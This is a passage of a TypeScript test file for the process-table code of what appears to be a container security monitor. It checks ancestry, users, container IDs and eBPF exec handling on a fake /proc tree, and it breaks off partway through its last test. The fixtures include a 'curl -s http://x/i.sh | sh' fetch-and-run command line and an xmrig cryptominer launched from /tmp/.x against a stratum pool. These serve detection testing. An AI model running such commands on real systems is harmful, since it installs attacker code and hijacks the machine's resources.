/**
 * src/enrich/process-table.ts: seeding, notices (fork, exec, exit, uid), ancestry as the rules
 * read it, containers, pid reuse, vanished and garbage processes, bounds; on a fake /proc tree and
 * on the real /proc with real child processes.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { SyscallEvent } from '../src/events.js';
import { ContainerResolver, DockerClient } from '../src/enrich/containers.js';
import { ProcessTable } from '../src/enrich/process-table.js';
import { FdTable } from '../src/enrich/fd-table.js';
import { readProcessSync } from '../src/platform/procfs.js';
import { UserDb } from '../src/enrich/users.js';
import { EXE_KNOWN, EXE_OVERLAY, EXE_UPPER, type KernelExecFacts, type ProcNotice } from '../src/sources/types.js';
import { defaultRegistry } from '../src/fields/index.js';
import type { Extracted } from '../src/fields/types.js';
import { FAKE_BTIME, FakeProc, statLine } from './helpers/fakeproc.js';
import { NGINX_ID, startDockerStandIn } from './helpers/docker-standin.js';

const reg = defaultRegistry();
/** A field as a rule names it, e.g. "proc.aname[2]". */
function field(name: string, ev: SyscallEvent): Extracted {
  const m = /^([^[]+)(?:\[(.*)\])?$/.exec(name)!;
  return reg.resolve('syscall', m[1]!, m[2]).extract(ev);
}

const DOCKER_CGROUP = [`12:pids:/docker/${NGINX_ID}`, `4:memory:/docker/${NGINX_ID}`, '0::/'];
const exec = (pid: number, ts = 1_700_000_100_000_000_000n): ProcNotice => ({ kind: 'exec', pid, tid: pid, ts });
const fork = (pid: number, ppid: number, ts = 1_700_000_099_000_000_000n): ProcNotice => ({ kind: 'fork', pid, tid: pid, ppid, ts });
const exit = (pid: number): ProcNotice => ({ kind: 'exit', pid, tid: pid, exitCode: 0, ts: 1_700_000_200_000_000_000n });

/** A child forked by `ppid` and exec'd as `comm` (its /proc entry written between the two notices). */
async function started(table: ProcessTable, fp: FakeProc, pid: number, ppid: number, comm: string, starttime: number): Promise<void> {
  await table.onNotice(fork(pid, ppid));
  fp.add({ pid, ppid, comm, argv: [comm], starttime });
  await table.onNotice(exec(pid));
}

/** Host: systemd(1) → containerd-shim(500) → [container] bash(600) → sh(700); kthreadd(2). */
function world(): { fp: FakeProc; etc: string; ctrRoot: string; cleanup: () => void } {
  const fp = new FakeProc();
  const etc = mkdtempSync(join(tmpdir(), 'mw-pt-host-'));
  mkdirSync(join(etc, 'etc'));
  writeFileSync(join(etc, 'etc/passwd'), 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/zsh\n');
  writeFileSync(join(etc, 'etc/group'), 'root:x:0:\nalice:x:1000:\n');
  const ctrRoot = mkdtempSync(join(tmpdir(), 'mw-pt-ctr-'));
  mkdirSync(join(ctrRoot, 'etc'));
  writeFileSync(join(ctrRoot, 'etc/passwd'), 'root:x:0:0:root:/root:/bin/ash\nminer:x:1000:1000::/home/miner:/bin/sh\n');
  writeFileSync(join(ctrRoot, 'etc/group'), 'root:x:0:\nminers:x:1000:\n');
  fp.add({ pid: 1, ppid: 0, comm: 'systemd', argv: ['/sbin/init', 'splash'], exe: '/usr/lib/systemd/systemd', starttime: 1 });
  fp.add({ pid: 2, ppid: 0, comm: 'kthreadd', argv: [], starttime: 1 });
  fp.add({ pid: 500, ppid: 1, comm: 'containerd-shim', argv: ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'moby'], exe: '/usr/bin/containerd-shim-runc-v2', starttime: 100 });
  fp.add({ pid: 600, ppid: 500, comm: 'bash', argv: ['bash'], exe: '/usr/bin/bash', cwd: '/', starttime: 200, cgroup: DOCKER_CGROUP, nspid: [600, 1], root: ctrRoot });
  fp.add({ pid: 700, ppid: 600, comm: 'sh', argv: ['sh', '-c', 'curl -s http://x/i.sh | sh'], exe: '/usr/bin/dash', starttime: 300, cgroup: DOCKER_CGROUP, nspid: [700, 7], root: ctrRoot });
  return {
    fp, etc, ctrRoot,
    cleanup: () => {
      fp.cleanup();
      rmSync(etc, { recursive: true, force: true });
      rmSync(ctrRoot, { recursive: true, force: true });
    },
  };
}

function fakeTable(w: ReturnType<typeof world>, extra: ConstructorParameters<typeof ProcessTable>[0] = {}): ProcessTable {
  return new ProcessTable({ procRoot: w.fp.root, clkTck: 100, users: new UserDb({ hostRoot: w.etc }), selfPid: 999_999, ...extra });
}

test('seeded from /proc: ancestry, container and users as the rules read them', async () => {
  const w = world();
  const table = fakeTable(w);
  try {
    assert.equal(table.seed(), 5);
    const sh = table.get(700)!;
    assert.equal(sh.parent?.name, 'bash');
    assert.equal(sh.parent?.parent?.name, 'containerd-shim');
    assert.equal(sh.parent?.parent?.parent?.pid, 1);
    assert.equal(sh.vpid, 7);
    assert.equal(sh.user, 'root');
    assert.equal(sh.shell, '/bin/ash', "the container's passwd names container users");
    assert.equal(table.get(1)?.user, 'root');
    assert.equal(table.get(1)?.shell, '/bin/bash', 'host processes: host passwd');
    assert.equal(table.get(2)?.exe, '', 'a kernel thread has no command line');
    assert.equal(table.get(1)?.start_ts, BigInt(FAKE_BTIME) * 1_000_000_000n + 10_000_000n);
    const ctx = await table.describe(700);
    assert.equal(ctx?.container.id, NGINX_ID.slice(0, 12));
    assert.equal(ctx?.container.type, 'docker');
    const host = await table.describe(500);
    assert.equal(host?.container.id, 'host');
  } finally {
    table.close();
    w.cleanup();
  }
});

test('fork then exec: the execve event with ancestry, container, users', async () => {
  const w = world();
  const table = fakeTable(w);
  try {
    table.seed();
    assert.equal(await table.onNotice(fork(800, 700)), undefined);
    // Until it execs, the child is a copy of its parent's image.
    const child = table.get(800)!;
    assert.equal(child.name, 'sh');
    assert.equal(child.parent?.pid, 700);
    // The kernel ran the exec: /proc now shows the miner.
    w.fp.add({
      pid: 800, ppid: 700, comm: 'xmrig', argv: ['./xmrig', '-o', 'stratum+tcp://pool.example:3333', '--donate-level=1'],
      exe: '/tmp/.x/xmrig', cwd: '/tmp/.x', uid: 1000, gid: 1000, starttime: 400, cgroup: DOCKER_CGROUP, nspid: [800, 9],
      root: w.ctrRoot, environ: ['HOME=/home/miner'], capEff: '00000000a80425fb',
    });
    const ev = await table.onNotice(exec(800));
    assert.ok(ev);
    assert.equal(ev.source, 'syscall');
    assert.equal(ev.type, 'execve');
    assert.equal(ev.res, 0);
    assert.equal(ev.ts, 1_700_000_100_000_000_000n);
    assert.equal(field('proc.name', ev), 'xmrig');
    assert.equal(field('proc.exe', ev), './xmrig');
    assert.equal(field('proc.exepath', ev), '/tmp/.x/xmrig');
    assert.equal(field('proc.args', ev), '-o stratum+tcp://pool.example:3333 --donate-level=1');
    assert.equal(field('proc.cmdline', ev), 'xmrig -o stratum+tcp://pool.example:3333 --donate-level=1');
    assert.equal(field('proc.cwd', ev), '/tmp/.x');
    assert.equal(field('proc.pid', ev), 800);
    assert.equal(field('proc.vpid', ev), 9);
    assert.equal(field('proc.ppid', ev), 700);
    assert.equal(field('proc.pname', ev), 'sh');
    assert.equal(field('proc.pcmdline', ev), 'sh -c curl -s http://x/i.sh | sh');
    assert.equal(field('proc.aname[2]', ev), 'bash');
    assert.equal(field('proc.aname[3]', ev), 'containerd-shim');
    assert.equal(field('proc.apid[4]', ev), 1);
    assert.equal(field('proc.aname[5]', ev), undefined);
    assert.deepEqual(field('proc.aname', ev), ['sh', 'bash', 'containerd-shim', 'systemd']);
    assert.equal(field('proc.env[HOME]', ev), '/home/miner');
    assert.equal(field('user.uid', ev), 1000);
    assert.equal(field('user.name', ev), 'miner');
    assert.equal(field('user.homedir', ev), '/home/miner');
    assert.equal(field('group.name', ev), 'miners');
    assert.equal(field('user.loginuid', ev), -1);
    assert.equal(field('thread.cap_effective', ev), 'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP');
    assert.equal(field('proc.pid.ts', ev), BigInt(FAKE_BTIME) * 1_000_000_000n + 4_000_000_000n);
    assert.equal(field('container.id', ev), '3ad7b26ded6d');
    assert.equal(field('container.type', ev), 'docker');
    assert.equal(field('container.name', ev), undefined, 'no runtime answers here: <NA>');
    assert.equal(field('mw.miner.flags', ev), true);
    assert.equal(field('mw.stratum.host', ev), 'pool.example');
    assert.equal(table.get(800), ev.proc);
    assert.equal(table.stats.execs, 1);
    assert.equal(table.stats.forks, 1);
  } finally {
    table.close();
    w.cleanup();
  }
});

test('exit: resolvable during the grace, gone after; children follow reparenting', async () => {
  const w = world();
  let now = 10_000;
  const table = fakeTable(w, { exitGraceMs: 5000, now: () => now });
  try {
    table.seed();
    await started(table, w.fp, 800, 700, 'loader', 400);
    await started(table, w.fp, 900, 800, 'kworkerds', 500);
    // The loader exits; the kernel reparents its child to init.
    w.fp.remove(800);
    w.fp.add({ pid: 900, ppid: 1, comm: 'kworkerds', argv: ['kworkerds'], starttime: 500 });
    await table.onNotice(exit(800));
    assert.equal((await table.lookup(800))?.name, 'loader', 'a dying pid still resolves during the grace');
    assert.equal((await table.lookup(900))?.parent?.name, 'loader');
    now += 5001;
    await table.onNotice({ kind: 'uid', pid: 1, tid: 1, ruid: 0, euid: 0, ts: 1n });
    assert.equal(table.get(800), undefined, 'removed after the grace');
    // Meanwhile an unrelated process got pid 800: it started after 900, so it is not its parent.
    w.fp.add({ pid: 800, ppid: 1, comm: 'newcomer', argv: ['newcomer'], starttime: 9999 });
    const orphan = await table.lookup(900);
    assert.equal(orphan?.ppid, 1, 'reparented');
    assert.equal(orphan?.parent?.name, 'systemd');
    assert.equal(table.stats.exits, 1);
  } finally {
    table.close();
    w.cleanup();
  }
});

test('leaf grace: an exited process no child was linked to goes after the shorter grace, a parent after the full one', async () => {
  const w = world();
  let now = 10_000;
  const table = fakeTable(w, { exitGraceMs: 5000, now: () => now });
  table.setLeafGrace(1000);
  const tick = () => table.onNotice({ kind: 'uid', pid: 1, tid: 1, ruid: 0, euid: 0, ts: 1n });
  try {
    table.seed();
    // 800 (loader) forks 900 (kworkerds), linked to it; 810 (true) is a leaf.
    await started(table, w.fp, 800, 700, 'loader', 400);
    await started(table, w.fp, 900, 800, 'kworkerds', 500);
    await started(table, w.fp, 810, 700, 'true', 410);
    // 820 exits a leaf, and a child forked before its exit is linked to it only afterwards.
    await started(table, w.fp, 820, 700, 'sh', 420);
    for (const pid of [800, 810, 820]) await table.onNotice(exit(pid));
    now += 900;
    await tick();
    assert.equal(table.get(810)?.name, 'true', 'a leaf still resolves within its grace');
    w.fp.add({ pid: 830, ppid: 820, comm: 'late', argv: ['late'], starttime: 430 });
    assert.equal((await table.lookup(830))?.parent?.name, 'sh', 'a child linked to an exited leaf');
    now += 200;
    await tick();
    assert.equal(table.get(810), undefined, 'a leaf goes after the leaf grace');
    assert.equal(table.get(800)?.name, 'loader', 'a parent stays for its child');
    assert.equal(table.get(820)?.name, 'sh', 'a leaf that became a parent waits out the full grace');
    now += 3950;
    await tick();
    assert.equal(table.get(800), undefined, 'the parent goes after the full grace');
    assert.equal(table.get(820), undefined, 'and so does the late parent');
    assert.equal((await table.lookup(900))?.name, 'kworkerds');
  } finally {
    table.close();
    w.cleanup();
  }
});

test('pid reuse is told by start time', async () => {
  const w = world();
  const table = fakeTable(w);
  try {
    table.seed();
    const before = table.get(700)!;
    // 700 exited (the notice was lost) and a new process got the pid.
    w.fp.add({ pid: 700, ppid: 1, comm: 'cron', argv: ['/usr/sbin/cron', '-f'], starttime: 9000 });
    const fresh = await table.lookup(700);
    assert.equal(fresh?.name, 'cron');
    assert.notEqual(fresh, before);
    assert.equal(fresh?.parent?.name, 'systemd');
    assert.equal(table.stats.reused, 1);
    // And through an exec notice.
    w.fp.add({ pid: 600, ppid: 1, comm: 'nginx', argv: ['nginx'], starttime: 9100 });
    const ev = await table.onNotice(exec(600));
    assert.equal(ev?.proc.name, 'nginx');
    assert.equal(table.stats.reused, 2);
  } finally {
    table.close();
    w.cleanup();
  }
});

test('a process gone before it was read: a minimal event, never a crash', async () => {
  const w = world();
  const table = fakeTable(w);
  try {
    table.seed();
    await table.onNotice(fork(800, 700));
    // It exec'd and exited before we looked: /proc/800 never shows the new image.
    const ev = await table.onNotice(exec(800));
    assert.ok(ev);
    assert.equal(ev.proc.pid, 800);
    assert.equal(ev.proc.name, '');
    assert.equal(ev.proc.args, undefined, "the parent's argv is not passed off as the new image's");
    assert.equal(field('proc.pname', ev), 'sh');
    assert.equal(field('proc.aname[2]', ev), 'bash');
    assert.equal(field('container.id', ev), '3ad7b26ded6d');
    // Never seen at all: pid and notice only.
    const lone = await table.onNotice(exec(4242));
    assert.ok(lone);
    assert.equal(lone.proc.pid, 4242);
    assert.equal(lone.proc.parent, undefined);
    assert.equal(field('container.id', lone), 'host');
    assert.equal(table.stats.vanished, 2);
    assert.equal(await table.lookup(4242), undefined);
    assert.equal(await table.describe(4242), undefined);
  } finally {
    table.close();
    w.cleanup();
  }
});

test('fork, exec and exit handed over together (a short command): the exec is read whole if it is still there, and never lost', async () => {
  const w = world();
  const table = fakeTable(w);
  try {
    table.seed();
    // Still there when the table looks: the exec's own read names the image and the start time
    // (the fork, its exec already noticed, reads nothing of its own).
    w.fp.add({
      pid: 800, ppid: 700, comm: 'xmrig', argv: ['./xmrig', '-o', 'pool.example:3333'], exe: '/tmp/.x/xmrig', starttime: 400,
      cgroup: DOCKER_CGROUP, nspid: [800, 9], root: w.ctrRoot,
    });
    const [forked, execd] = [table.onNotice(fork(800, 700)), table.onNotice(exec(800))];
    assert.equal(await forked, undefined);
    const ev = await execd;
    assert.ok(ev);
    assert.equal(field('proc.name', ev), 'xmrig');
    assert.equal(field('proc.cmdline', ev), 'xmrig -o pool.example:3333');
    assert.equal(field('proc.pname', ev), 'sh');
    assert.equal(field('proc.vpid', ev), 9);
    assert.equal(field('proc.pid.ts', ev), BigInt(FAKE_BTIME) * 1_000_000_000n + 4_000_000_000n, 'the start time /proc gives');
    assert.equal(field('container.id', ev), '3ad7b26ded6d');

    // Gone before the table looked: all three together still give the exec event, with what the
    // table knew (its parent, ancestry and container).
    const [, gone] = [fork(801, 700), exec(801), exit(801)].map((n) => table.onNotice(n));
    const ev2 = await gone;
    assert.ok(ev2);
    assert.equal(ev2.proc.pid, 801);
    assert.equal(ev2.proc.name, '');
    assert.equal(field('proc.pname', ev2), 'sh');
    assert.equal(field('proc.aname[2]', ev2), 'bash');
    assert.equal(field('container.id', ev2), '3ad7b26ded6d');
    assert.equal(table.stats.execs, 2);
    assert.equal(table.stats.vanished, 1);
  } finally {
    table.close();
    w.cleanup();
  }
});

test('notices the kernel described (eBPF) are applied without reading /proc', async () => {
  const w = world();
  const table = fakeTable(w);
  try {
    table.seed();
    // /proc/800 and /proc/801 hold decoys: anything read from them would show.
    w.fp.add({ pid: 800, ppid: 700, comm: 'decoy', argv: ['decoy'], exe: '/decoy', cwd: '/decoy', starttime: 999, cgroup: DOCKER_CGROUP, nspid: [800, 42], root: w.ctrRoot });
    w.fp.add({ pid: 801, ppid: 500, comm: 'decoy', argv: ['decoy'], exe: '/decoy', cwd: '/decoy', starttime: 999, nspid: [801, 43] });
    const startTs = BigInt(FAKE_BTIME) * 1_000_000_000n + 4_000_000_000n;
    // A fork with the child's start time and pid in its namespace: the parent's image, the kernel's ids.
    await table.onNotice({ ...fork(800, 700), startTs, vpid: 9 });
    const child = table.get(800)!;
    assert.equal(child.name, 'sh');
    assert.equal(child.start_ts, startTs, "the kernel's start time, not the decoy's");
    assert.equal(child.vpid, 9, "the kernel's vpid, not the decoy's");
    assert.equal(child.parent?.pid, 700);
    // A host process forking a child into a new pid namespace: its own vpid, no group in its view.
    await table.onNotice({ ...fork(801, 500), startTs, vpid: 1 });
    assert.equal(table.get(801)!.vpid, 1);
    assert.equal(table.get(801)!.vpgid, undefined);
    // An exec the kernel described whose exit came in the same batch: not read, identity kept.
    const kernel = { type: 'execve' as const, comm: 'true', argv: ['/bin/true'], exepath: '/usr/bin/true', uid: 0, ppid: 700, startTs };
    const pending = table.onNotice({ ...exec(800), exec: kernel });
    void table.onNotice(exit(800));
    const ev = await pending;
    assert.ok(ev);
    assert.equal(ev.proc.name, 'true', "the kernel's comm, not the decoy's");
    assert.equal(ev.proc.exepath, '/usr/bin/true');
    assert.equal(ev.proc.cwd, undefined, 'the decoy was not read');
    assert.equal(ev.proc.start_ts, startTs);
    assert.equal(field('proc.pname', ev), 'sh');
    assert.equal(field('container.id', ev), '3ad7b26ded6d');
    assert.equal(table.stats.vanished, 1);
    // It stands in the table for its last moments: a child it forked names it as its parent.
    assert.equal(table.get(800), ev.proc);
    await table.onNotice(fork(802, 800));
    assert.equal(table.get(802)?.parent?.name, 'true');
    // The same exec with no exit noticed is read from /proc as before.
    const live = await table.onNotice({ ...exec(801), exec: { ...kernel, ppid: 500 } });
    assert.equal(live?.proc.name, 'decoy');
    assert.equal(table.stats.vanished, 1);
  } finally {
    table.close();
    w.cleanup();
  }
});

test('an exec the kernel described whole (eBPF facts) reads nothing from /proc', async () => {
  const w = world();
  const table = fakeTable(w, { kernelExecs: true });
  try {
    table.seed();
    const startTs = BigInt(FAKE_BTIME) * 1_000_000_000n + 4_000_000_000n;
    await table.onNotice({ ...fork(800, 700), startTs, vpid: 9 });
    // /proc/800 holds a decoy, alive: anything read from it would show.
    w.fp.add({ pid: 800, ppid: 700, comm: 'decoy', argv: ['decoy'], exe: '/decoy', cwd: '/decoy', starttime: 999, cgroup: ['0::/'], nspid: [800, 42], root: w.ctrRoot });
    const facts: KernelExecFacts = {
      ruid: 1000, euid: 1000, rgid: 1000, egid: 1000, loginuid: undefined, vpid: 9, tty: 0x8801,
      exeFlags: EXE_KNOWN | EXE_OVERLAY | EXE_UPPER, exeDev: 0x2an, exeIno: 4242n, exeMtimeNs: 5n, exeCtimeNs: 6n, exeSize: 100n,
      exeMode: 0o100755, exeUid: 1000, exeGid: 1000,
      cgroupId: 77n, cgroupPath: `/system.slice/docker-${NGINX_ID}.scope`, cgroup1Id: 0n, cgroup1Path: '',
      capEff: 0n, capPrm: 0n, capInh: 0n, env: ['HOME=/home/miner', 'POOL=x'],
    };
    const kernel = { type: 'execve' as const, comm: 'xmrig', argv: ['./xmrig', '-o', 'pool:3333'], exepath: '/tmp/xmrig', uid: 1000, ppid: 700, startTs, facts };
    const ev = await table.onNotice({ ...exec(800), exec: kernel });
    assert.ok(ev);
    const p = ev.proc;
    assert.equal(p.name, 'xmrig');
    assert.deepEqual([p.exe, p.args], ['./xmrig', ['-o', 'pool:3333']]);
    assert.deepEqual([p.uid, p.gid, p.loginuid, p.vpid, p.tty], [1000, 1000, -1, 9, 0x8801]);
    assert.equal(p.user, 'miner', "named in the container's /etc/passwd");
    assert.equal(p.exe_upper_layer, true);
    assert.equal(p.exe_writable, true, 'its own file');
    assert.equal(p.exe_ino, 4242);
    assert.deepEqual(p.env, ['HOME=/home/miner', 'POOL=x']);
    assert.equal(p.cap_effective, '');
    assert.equal(p.cwd, '/', "the forked entry's (its parent's), not the decoy's");
    assert.equal(p.parent?.pid, 700);
    assert.equal(field('container.id', ev), NGINX_ID.slice(0, 12));
    assert.equal(table.stats.described, 1);
    // A hybrid host: the v2 path is the root, the container is in the memory controller's v1 path.
    await table.onNotice({ ...fork(801, 700), startTs, vpid: 10 });
    const hybrid = await table.onNotice({ ...exec(801), exec: { ...kernel, facts: { ...facts, cgroupId: 1n, cgroupPath: '/', cgroup1Id: 5n, cgroup1Path: `/docker/${NGINX_ID}` } } });
    assert.equal(hybrid && field('container.id', hybrid), NGINX_ID.slice(0, 12));
    const host = await table.onNotice({ ...exec(801), exec: { ...kernel, facts: { ...facts, cgroupId: 1n, cgroupPath: '/', cgroup1Id: 0n, cgroup1Path: '' } } });
    assert.equal(host && field('container.id', host), 'host');
  } finally {
    table.close();
    w.cleanup();
  }
});

/**
 * Two seeded tables over one fake /proc: `table` takes notices through applyNow, `twin` the same
 * notices through onNotice, and what each makes of them is compared.
 */
async function withTwinTables(fn: (w: ReturnType<typeof world>, table: ProcessTable, twin: ProcessTable) => Promise<void>): Promise<void> {
  const w = world();
  const table = fakeTable(w, { kernelExecs: true, exitGraceMs: 60_000 });
  const twin = fakeTable(w, { kernelExecs: true, exitGraceMs: 60_000 });
  try {
    table.seed();
    twin.seed();
    await fn(w, table, twin);
  } finally {
    table.close();
    twin.close();
    w.cleanup();
  }
}

test('applyNow: described notices apply at once, as onNotice would, and wait their turn behind a pending one', async () => {
  await withTwinTables(async (w, table, twin) => {
    const startTs = BigInt(FAKE_BTIME) * 1_000_000_000n + 4_000_000_000n;
    const facts: KernelExecFacts = {
      ruid: 1000, euid: 1000, rgid: 1000, egid: 1000, loginuid: 1000, vpid: 9, tty: 0x8801,
      exeFlags: EXE_KNOWN, exeDev: 0x2an, exeIno: 4243n, exeMtimeNs: 5n, exeCtimeNs: 6n, exeSize: 100n,
      exeMode: 0o100755, exeUid: 0, exeGid: 0,
      cgroupId: 77n, cgroupPath: `/system.slice/docker-${NGINX_ID}.scope`, cgroup1Id: 0n, cgroup1Path: '',
      capEff: 0n, capPrm: 0n, capInh: 0n, env: ['HOME=/home/miner'],
    };
    const kernel = { type: 'execveat' as const, comm: 'xmrig', argv: ['./xmrig', '-o', 'pool:3333'], exepath: '/tmp/xmrig', uid: 1000, ppid: 700, startTs, facts };
    // /proc/800 holds a decoy: anything read from it would show.
    w.fp.add({ pid: 800, ppid: 700, comm: 'decoy', argv: ['decoy'], exe: '/decoy', cwd: '/decoy', starttime: 999, cgroup: ['0::/'], nspid: [800, 42], root: w.ctrRoot });
    const notices: ProcNotice[] = [{ ...fork(800, 700), startTs, vpid: 9 }, { ...exec(800), exec: kernel }, exit(800)];
    const now = notices.map((n) => table.applyNow(n));
    assert.equal(now[0], null, 'the fork applied');
    assert.equal(now[2], null, 'the exit applied');
    const ev = now[1];
    assert.ok(ev, 'the exec applied, with its event');
    // The same notices through onNotice, on a table of its own: the same event.
    await twin.onNotice(notices[0]!);
    const slow = await twin.onNotice(notices[1]!);
    assert.ok(slow);
    assert.equal(ev.type, 'execveat', 'the call the kernel saw');
    for (const f of ['proc.name', 'proc.cmdline', 'proc.exepath', 'proc.pname', 'proc.aname[2]', 'proc.vpid', 'proc.tty', 'user.name', 'user.loginname', 'container.id', 'proc.env', 'proc.cwd']) {
      assert.deepEqual(field(f, ev), field(f, slow), f);
    }
    assert.equal(field('user.name', ev), 'miner');
    assert.equal(table.get(800), ev.proc, 'in the table');
    assert.deepEqual([table.stats.forks, table.stats.execs, table.stats.described, table.stats.exits], [1, 1, 1, 1]);
    // Exited, it stays resolvable through its grace.
    assert.equal(table.get(800)?.name, 'xmrig');

    // A notice of a pid with one still pending waits its turn: applyNow declines it.
    w.fp.add({ pid: 810, ppid: 700, comm: 'sleep', argv: ['sleep', '9'], exe: '/usr/bin/sleep', starttime: 400 });
    const pending = table.onNotice(exec(810));
    assert.equal(table.applyNow(exit(810)), undefined, 'behind the exec being read');
    await pending;
    await new Promise(setImmediate); // the chain's own bookkeeping settles
    assert.equal(table.applyNow(exit(810)), null, 'nothing pending any more');

    // An exec whose parent the table lacks needs a read: declined, the table unchanged.
    const orphan = { ...kernel, ppid: 4242 };
    assert.equal(table.applyNow({ ...exec(811), exec: orphan }), undefined);
    assert.equal(table.get(811), undefined);
    // A fork the kernel did not describe (the proc connector's) of a parent the table has applies
    // at once as the parent's image, its read put off (proc-fork.ts); of an unknown parent it is declined.
    assert.equal(table.applyNow(fork(812, 700)), null);
    assert.equal(table.get(812)?.parent, table.get(700));
    assert.equal(table.get(812)?.name, table.get(700)?.name);
    assert.equal(table.applyNow(fork(813, 4243)), undefined);
    assert.equal(table.get(813), undefined);
    await table.forksRead();
  });
});

test('applyNow: an exec the driver found reaped applies at once, as the read that finds nothing would', async () => {
  await withTwinTables(async (_w, table, twin) => {
    // A fork of a known parent, then its exec, whose process was gone (reaped) before any read.
    for (const t of [table, twin]) assert.equal(t.applyNow(fork(820, 700)), null);
    const ev = table.applyNow({ ...exec(820), reaped: true });
    assert.ok(ev, 'applied at once, with its event');
    assert.equal(table.stats.vanished, 1);
    // The same exec without the driver's word: through onNotice, whose read of /proc finds nothing.
    const slow = await twin.onNotice(exec(820));
    assert.ok(slow);
    for (const f of ['proc.pid', 'proc.ppid', 'proc.pname', 'user.uid', 'user.name', 'container.id', 'proc.name']) assert.deepEqual(field(f, ev), field(f, slow), f);
    // Not reaped (a zombie may still say something): left to onNotice's read.
    assert.equal(table.applyNow(fork(821, 700)), null);
    assert.equal(table.applyNow({ ...exec(821), reaped: false }), undefined);
    await table.forksRead();
    await twin.forksRead();
  });
});

/** The eBPF exec record's facts of a plain host command, for the forked-image tests. */
function hostFacts(vpid: number): KernelExecFacts {
  return {
    ruid: 0, euid: 0, rgid: 0, egid: 0, loginuid: undefined, vpid, tty: 0,
    exeFlags: EXE_KNOWN, exeDev: 0x2an, exeIno: 5151n, exeMtimeNs: 5n, exeCtimeNs: 6n, exeSize: 100n,
    exeMode: 0o100755, exeUid: 0, exeGid: 0,
    cgroupId: 77n, cgroupPath: `/system.slice/docker-${NGINX_ID}.scope`, cgroup1Id: 0n, cgroup1Path: '',
    capEff: 0n, capPrm: 0n, capInh: 0n, env: ['PATH=/bin'],
  };
}

const described = (pid: number, ppid: number, comm: string, startTs: bigint): ProcNotice => ({
  ...exec(pid),
  exec: { type: 'execve', comm, argv: [comm, '--flag'], exepath: `/usr/bin/${comm}`, uid: 0, ppid, startTs, facts: hostFacts(pid) },
});

test('a forked child is its parent as at the fork: a later exec, uid change or chdir of the parent does not reach it', () => {
  const w = world();
  const table = fakeTable(w, { kernelExecs: true, exitGraceMs: 60_000 });
  const eager = fakeTable(w, { kernelExecs: true, exitGraceMs: 60_000 });
  try {
    table.seed();
    eager.seed();
    const startTs = BigInt(FAKE_BTIME) * 1_000_000_000n + 4_000_000_000n;
    // The twin table builds the child at once: what the lazy one must give when read later.
    assert.equal(eager.applyNow({ ...fork(800, 700), startTs, vpid: 9 }), null);
    const want = { ...eager.get(800)! };
    assert.equal(table.applyNow({ ...fork(800, 700), startTs, vpid: 9 }), null);
    const sh = table.get(700)!;
    // After the fork the parent moves on: a chdir (the fd table sets proc.cwd in place), then an
    // exec and a uid change (new ProcessInfo objects).
    new FdTable().apply({ source: 'syscall', type: 'chdir', ts: 1n, res: 0, proc: sh, args: { res: 0, path: '/tmp' } } as SyscallEvent);
    assert.equal(table.get(700)?.cwd, '/tmp');
    assert.ok(table.applyNow(described(700, 600, 'xmrig', BigInt(FAKE_BTIME) * 1_000_000_000n + 3_000_000_000n)));
    assert.equal(table.applyNow({ kind: 'uid', pid: 700, tid: 700, ruid: 1000, euid: 1000, ts: 3n }), null);
    assert.equal(table.get(700)?.name, 'xmrig');

    const child = table.get(800)!;
    for (const k of ['name', 'exe', 'args', 'exepath', 'uid', 'user', 'gid', 'sid', 'vpgid', 'tty', 'env', 'pid', 'tid', 'ppid', 'vpid', 'vtid', 'start_ts'] as const) {
      assert.deepEqual(child[k], want[k], k);
    }
    assert.deepEqual([child.name, child.uid, child.cwd, child.vpid, child.start_ts], ['sh', 0, '/', 9, startTs], 'as at the fork');
    assert.equal(child.parent, sh, 'its parent as it was');
    assert.equal(table.get(800), child, 'built once');
    // Its own children: a chain of forks reads through one image at most.
    assert.equal(table.applyNow({ ...fork(900, 800), startTs: startTs + 1n, vpid: 10 }), null);
    assert.deepEqual([table.get(900)?.name, table.get(900)?.parent, table.get(900)?.parent?.parent], ['sh', child, sh]);
    assert.equal(table.get(900)?.cwd, '/');
  } finally {
    table.close();
    eager.close();
    w.cleanup();
  }
});

test("an exec replaces a forked child never read: the exec keeps the cwd and session of the fork, not the parent's later ones", () => {
  const w = world();
  const table = fakeTable(w, { kernelExecs: true, exitGraceMs: 60_000 });
  try {
    table.seed();
    const startTs = BigInt(FAKE_BTIME) * 1_000_000_000n + 4_000_000_000n;
    assert.equal(table.applyNow({ ...fork(800, 700), startTs, vpid: 9 }), null);
    const sh = table.get(700)!;
    sh.cwd = '/tmp'; // the parent's chdir after the fork (fd-table.ts sets it in place)
    const ev = table.applyNow(described(800, 700, 'curl', startTs));
    assert.ok(ev);
    assert.deepEqual([ev.proc.name, ev.proc.cwd, ev.proc.sid, ev.proc.vpgid, ev.proc.parent], ['curl', '/', sh.sid, sh.vpgid, sh]);
    // A fork into a pid namespace of its own: the parent's group is not in its view.
    assert.equal(table.applyNow({ ...fork(801, 700), startTs, vpid: 801 }), null);
    const ns = table.applyNow(described(801, 700, 'curl', startTs));
    assert.ok(ns);
    assert.equal(ns.proc.vpgid, undefined);
  } finally {
    table.close();
    w.cleanup();
  }
});

test('ancestry: a walk that stops at an ancestor walked before still follows an ancestor that exec\'d, changed uid or exited since', async () => {
  const w = world();
  let now = 10_000;
  const table = fakeTable(w, { kernelExecs: true, exitGraceMs: 5000, now: () => now });
  try {
    table.seed();
    const t0 = BigInt(FAKE_BTIME) * 1_000_000_000n + 4_000_000_000n;
    // sh(700) → loader(800) → worker(900): every walk goes up to systemd once.
    table.applyNow({ ...fork(800, 700), startTs: t0, vpid: 9 });
    assert.equal(table.applyNow(described(800, 700, 'loader', t0))?.proc.parent?.name, 'sh');
    table.applyNow({ ...fork(900, 800), startTs: t0 + 1n, vpid: 10 });
    const worker = table.applyNow(described(900, 800, 'worker', t0 + 1n));
    assert.deepEqual([worker?.proc.parent?.name, worker?.proc.parent?.parent?.name, worker?.proc.parent?.parent?.parent?.name], ['loader', 'sh', 'bash']);
